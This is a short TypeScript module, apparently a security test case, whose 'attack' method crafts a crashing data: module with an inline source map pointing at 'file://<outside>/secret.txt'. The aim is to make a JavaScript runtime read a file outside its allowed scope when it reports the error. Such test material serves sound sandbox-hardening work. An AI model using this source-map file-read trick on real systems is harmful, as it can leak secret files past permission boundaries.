const map = (source: string) =>
  btoa(JSON.stringify({ version: 3, sources: [source], names: [], mappings: "AAAA" }));

export const activate = (): unknown => ({
  async attack({ outside }: { outside: string }) {
    const code = `throw new Error("crash");\n//# sourceMappingURL=data:application/json;base64,${
      map(`file://${outside}/secret.txt`)
    }`;
    const crash = import(`data:text/javascript,${encodeURIComponent(code)}`);
    return await crash.catch((error) => {
      setTimeout(() => reportError(error));
      return new Promise(() => {});
    });
  },
});
